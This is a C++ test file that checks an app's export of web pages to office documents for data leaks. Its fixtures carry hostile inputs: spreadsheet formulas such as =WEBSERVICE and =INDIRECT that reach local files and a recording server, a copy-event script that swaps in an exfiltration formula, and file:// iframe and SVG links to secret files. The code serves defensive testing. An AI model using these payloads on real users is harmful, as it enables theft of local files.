// Hostile pages saved through the real window to every office format, with the real helper and
// office, beside servers that record every request: the office asks them for nothing, no file
// of the user's reaches an output, formulas of the page stay text, no picture stays linked; yet
// the pictures the page shows, from its own site and another, are in the document and the PDF.
#include "appfixture.h"
#include "commanddriver.h"
#include "httpserver.h"
#include "officecheck.h"
#include "testguard.h"
#include "testmain.h"

#include "config/captionnumbers.h"
#include "config/programfiles.h"

#include <QBuffer>
#include <QImage>
#include <QJsonArray>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QUrl>

#include <sys/inotify.h>
#include <unistd.h>

namespace {

const QByteArray kSecretText = "SECRET-FILE-7f3a";
const QByteArray kSecretPicture = "SECRET-PNG-9c1d";

QByteArray png(int width, int height, QRgb colour, const QString& marker = QString())
{
    QImage image(width, height, QImage::Format_RGB32);
    image.fill(colour);
    if (!marker.isEmpty())
        image.setText(QStringLiteral("Comment"), marker);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

// The bytes hold the text as Latin-1 or as UTF-16.
bool holds(const QByteArray& bytes, const QByteArray& text)
{
    QByteArray wide;
    for (char c : text)
        wide.append(c).append('\0');
    return bytes.contains(text) || bytes.contains(wide);
}

QByteArray contents(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// What a program of poppler-utils prints about a PDF.
QByteArray poppler(const QString& program, const QStringList& arguments)
{
    QProcess process;
    process.start(program, arguments);
    return process.waitForFinished(30000) && process.exitCode() == 0
               ? process.readAllStandardOutput().trimmed()
               : QByteArray();
}

// Tells whether anything opened or read a file while it was watched.
class OpenWatch {
public:
    explicit OpenWatch(const QString& path)
        : m_fd(::inotify_init1(IN_NONBLOCK | IN_CLOEXEC)),
          m_watch(m_fd < 0 ? -1
                           : ::inotify_add_watch(m_fd, QFile::encodeName(path).constData(),
                                                 IN_OPEN | IN_ACCESS))
    {
    }
    ~OpenWatch()
    {
        if (m_fd >= 0)
            ::close(m_fd);
    }
    OpenWatch(const OpenWatch&) = delete;
    OpenWatch& operator=(const OpenWatch&) = delete;
    bool watching() const { return m_watch >= 0; }
    bool opened() const
    {
        alignas(inotify_event) char events[4096];
        return ::read(m_fd, events, sizeof events) > 0;
    }

private:
    int m_fd;
    int m_watch;
};

} // namespace

class TestOfficeHostile : public QObject {
    Q_OBJECT

    HttpServer server;
    HttpServer otherSite;  // pictures from another origin, which the page may show but not read
    HttpServer linkedSite; // a picture a presentation of the user's links to
    AppFixture app;
    QTemporaryDir out;
    QString secretFile;
    QString secretPicture;

    frmStart& w() { return *app.window; }
    Browser& root() { return *app.browser; }

private slots:
    void initTestCase()
    {
        REQUIRE_OFFICE();
        QVERIFY(out.isValid() && server.start() && otherSite.start());
        secretFile = out.filePath(QStringLiteral("secret.txt"));
        secretPicture = out.filePath(QStringLiteral("secret.png"));
        QFile text(secretFile);
        QVERIFY(text.open(QIODevice::WriteOnly) && text.write(kSecretText) > 0);
        text.close();
        QFile picture(secretPicture);
        QVERIFY(picture.open(QIODevice::WriteOnly) &&
                picture.write(png(40, 40, qRgb(200, 0, 0), QLatin1String(kSecretPicture))) > 0);
        picture.close();

        const QString file = QStringLiteral("file://") + secretPicture;
        const QString svg =
            QStringLiteral("<svg xmlns='http://www.w3.org/2000/svg' "
                           "xmlns:xlink='http://www.w3.org/1999/xlink' width='40' height='40'>"
                           "<image xlink:href='%1' href='%1' width='40' height='40'/></svg>")
                .arg(file);
        const QString site = QStringLiteral("http://") + server.hostPort();
        const QString hostile =
            QStringLiteral(
                "<h1>Hostile</h1><img src=\"shown.png\"><img src=\"%5\">"
                "<img src=\"%1\"><img src=\"data:image/svg+xml;base64,%2\">"
                "<img src=\"missing.png\"><iframe src=\"file://%3\"></iframe>"
                "<object data=\"file://%3\"></object><link rel=\"stylesheet\" href=\"style.css\">"
                "<p style=\"background:url(style.png)\">Cells:</p><table><tr>"
                "<td>=WEBSERVICE(\"%4/office-ws?\"&amp;ENCODEURL(\"x\"))</td>"
                "<td>=INFO(\"osversion\")</td><td>=HYPERLINK(\"%4/office-link\",\"go\")</td>"
                "<td>=INDIRECT(\"'file://%3'#$secret.A1\")</td></tr></table>")
                .arg(file, QString::fromLatin1(svg.toUtf8().toBase64()), secretFile, site,
                     otherSite.url(QStringLiteral("other.png")).toString());
        server.setPage(QStringLiteral("hostile.html"),
                       htmlPage(QStringLiteral("Hostile"), hostile));
        // A copy that leaves only text: a formula that would send a local file away.
        server.setPage(
            QStringLiteral("textonly.html"),
            htmlPage(QStringLiteral("TextOnly"),
                     QStringLiteral("<p>Some text</p><script>document.addEventListener('copy', "
                                    "function (e) { e.clipboardData.setData('text/plain', "
                                    "'=WEBSERVICE(\"%1/office-text?\"&ENCODEURL(\"file://%2\"))');"
                                    " e.preventDefault(); });</script>")
                         .arg(site, secretFile)));
        server.setPage(QStringLiteral("home.html"), htmlPage(QStringLiteral("Home")));
        server.setPage(QStringLiteral("shown.png"), png(120, 80, qRgb(0, 120, 200)), "image/png");
        otherSite.setPage(QStringLiteral("other.png"), png(60, 90, qRgb(0, 200, 0)), "image/png");
        for (const char* name : {"Template.Doc", "TemplateH.Doc"})
            QVERIFY(QFile::copy(QStringLiteral(QUORVINK_SOURCE_DIR "/data/Data/") + name,
                                app.dir.file(QStringLiteral("Data/") + name)));
        QVERIFY(startShared(app, site, server.url(QStringLiteral("home.html")), kTestTimings));
        QTRY_VERIFY(!app.module->Template_HDoc.isEmpty());
    }

    void init()
    {
        TestGuard::failOnWarnings();
        QVERIFY(app.reset(server.url(QStringLiteral("home.html"))));
    }
    void cleanupTestCase() { app.close(); }

    // A slide added to a presentation of the user's that links to a picture on a server and to
    // a file beside it: the office is not let at it, so it neither calls the server nor reads the
    // file, the presentation stays as it was, and the message says why.
    void slideOntoLinkedPresentation()
    {
        QVERIFY(QDir(out.path()).mkpath(QStringLiteral("deck")) && linkedSite.start());
        const QString flat = out.filePath(QStringLiteral("deck/linked.fodp"));
        const QString linked = linkedSite.url(QStringLiteral("linked.png")).toString();
        linkedSite.setPage(QStringLiteral("linked.png"), png(30, 30, qRgb(9, 9, 9)), "image/png");
        const QString image = QStringLiteral(
            "<draw:frame svg:x=\"%2cm\" svg:y=\"1cm\" svg:width=\"5cm\" svg:height=\"5cm\">"
            "<draw:image xlink:href=\"%1\" xlink:type=\"simple\" xlink:show=\"embed\"/>"
            "</draw:frame>");
        QFile file(flat);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(QStringLiteral(
                       "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document "
                       "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                       "xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
                       "xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
                       "xmlns:svg=\"urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0\" "
                       "office:version=\"1.3\" office:mimetype=\"application/"
                       "vnd.oasis.opendocument.presentation\"><office:body><office:presentation>"
                       "<draw:page draw:name=\"one\">%1%2</draw:page></office:presentation>"
                       "</office:body></office:document>")
                       .arg(image.arg(linked, QStringLiteral("1")),
                            image.arg(QStringLiteral("../secret.png"), QStringLiteral("8")))
                       .toUtf8());
        file.close();
        // The office of a profile of its own makes the presentation, and fetches the picture as
        // it does (the server answers while the test waits); what it wrote still links to both.
        const QTemporaryDir profile;
        QProcess convert;
        QSignalSpy converted(&convert, &QProcess::finished);
        convert.start(officeProgram(),
                      {QStringLiteral("-env:UserInstallation=") +
                           QUrl::fromLocalFile(profile.path()).toString(),
                       QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                       QStringLiteral("ppt"), QStringLiteral("--outdir"),
                       out.filePath(QStringLiteral("deck")), flat});
        QVERIFY(converted.wait(120'000));
        QVERIFY(!linkedSite.requests().isEmpty());
        const QString deck = out.filePath(QStringLiteral("deck/linked.ppt"));
        const QByteArray before = contents(deck);
        QVERIFY(holds(before, linked.toLatin1()) && holds(before, "../secret.png"));

        const qsizetype requests = linkedSite.requests().size();
        const OpenWatch secret(secretPicture);
        QVERIFY(secret.watching());
        app.desktop.messages.clear();
        app.desktop.saveAnswers = QStringList{deck};
        QCOMPARE(CommandDriver::activate(w(), QStringLiteral("SAVE:PPT")),
                 CommandDriver::Reached::Activated);

        QCOMPARE(linkedSite.requests().size(), requests);
        QVERIFY(!secret.opened());
        QCOMPARE(contents(deck), before);
        QCOMPARE(app.desktop.messages.size(), 1);
        const QString message = app.desktop.messages[0].text;
        QVERIFY2(message.startsWith(app.module->Lang_Text[CaptionNo::PresentationLinked]) &&
                     message.contains(linked),
                 qPrintable(message));
    }

    void exports_data()
    {
        QTest::addColumn<QString>("page");
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("name");
        QTest::addColumn<int>("pictures");      // in the document (and the PDF); -1: not asked
        QTest::addColumn<QStringList>("cells"); // texts the sheet holds, as typed

        const QStringList formulas{
            QStringLiteral("=INFO(\"osversion\")"),
            QStringLiteral("=HYPERLINK(\"http://%1/office-link\",\"go\")").arg(server.hostPort())};
        QTest::addRow("document") << "hostile.html"
                                  << "SAVE:WORDV"
                                  << "page.doc" << 2 << QStringList();
        QTest::addRow("PDF and its document") << "hostile.html"
                                              << "SAVE:PDF"
                                              << "page.pdf" << 2 << QStringList();
        QTest::addRow("sheet") << "hostile.html"
                               << "SAVE:EXCEL"
                               << "page.xls" << -1 << formulas;
        QTest::addRow("sheet from text only")
            << "textonly.html"
            << "SAVE:EXCEL"
            << "text.xls" << -1
            << QStringList{QStringLiteral("=WEBSERVICE(\"http://%1/office-text?\"&ENCODEURL("
                                          "\"file://%2\"))")
                               .arg(server.hostPort(), secretFile)};
        QTest::addRow("slide") << "hostile.html"
                               << "SAVE:PPT"
                               << "page.ppt" << -1 << QStringList();
    }

    void exports()
    {
        QFETCH(QString, page);
        QFETCH(QString, key);
        QFETCH(QString, name);
        QFETCH(int, pictures);
        QFETCH(QStringList, cells);

        app.view(0)->Navigate(server.url(page).toString());
        QVERIFY(AppFixture::waitFor(app.view(0), server.url(page)));
        const QString file = out.filePath(name);
        app.desktop.messages.clear();
        app.desktop.saveAnswers = QStringList{file};
        QCOMPARE(CommandDriver::activate(w(), key), CommandDriver::Reached::Activated);
        QVERIFY(QFileInfo(file).size() > 0);

        // Every request came from the browser; nothing asked for what only the office would.
        for (const HttpServer::Request& r : server.requests() + otherSite.requests()) {
            QVERIFY2(r.userAgent.contains("QtWebEngine") && !r.path.startsWith(u"office"),
                     qPrintable(r.method + ' ' + r.path + " from " + r.userAgent));
        }
        QStringList outputs{file};
        if (key == u"SAVE:PDF")
            outputs << OfficeJob::companionPathFor(file);
        for (const QString& output : std::as_const(outputs)) {
            const QByteArray bytes = contents(output);
            for (const QByteArray& unwanted :
                 {kSecretText, kSecretPicture, QByteArray("INCLUDEPICTURE"),
                  QByteArray("shown.png"), QByteArray("missing.png")})
                QVERIFY2(!holds(bytes, unwanted), qPrintable(output + u' ' + unwanted));
        }

        const QJsonObject read =
            readBack(outputs.last(), app.module->path(ProgramFiles::OfficeProfile));
        if (pictures >= 0)
            QCOMPARE(read.value(QLatin1String("pictures")).toInt(), pictures);
        if (key == u"SAVE:PDF") {
            // pdfimages lists its images below two heading lines.
            const QByteArray images = poppler(QStringLiteral("pdfimages"), {"-list", file});
            QCOMPARE(images.split('\n').size() - 2, pictures);
            // Tagged, and without bookmarks (the page's heading would give one).
            QVERIFY(QRegularExpression(QStringLiteral("Tagged: +yes"))
                        .match(QString::fromLatin1(poppler(QStringLiteral("pdfinfo"), {file})))
                        .hasMatch());
            QVERIFY(!contents(file).contains("/Outlines"));
        }
        const QJsonArray rows = read.value(QLatin1String("cells")).toArray();
        QStringList texts;
        for (const QJsonValue& row : rows) {
            for (const QJsonValue& cell : row.toArray())
                texts << cell.toString();
        }
        for (const QString& cell : std::as_const(cells))
            QVERIFY2(texts.contains(cell), qPrintable(texts.join(u'|')));
    }
};

QUORVINK_TEST_MAIN(TestOfficeHostile)
#include "test_officehostile.moc"
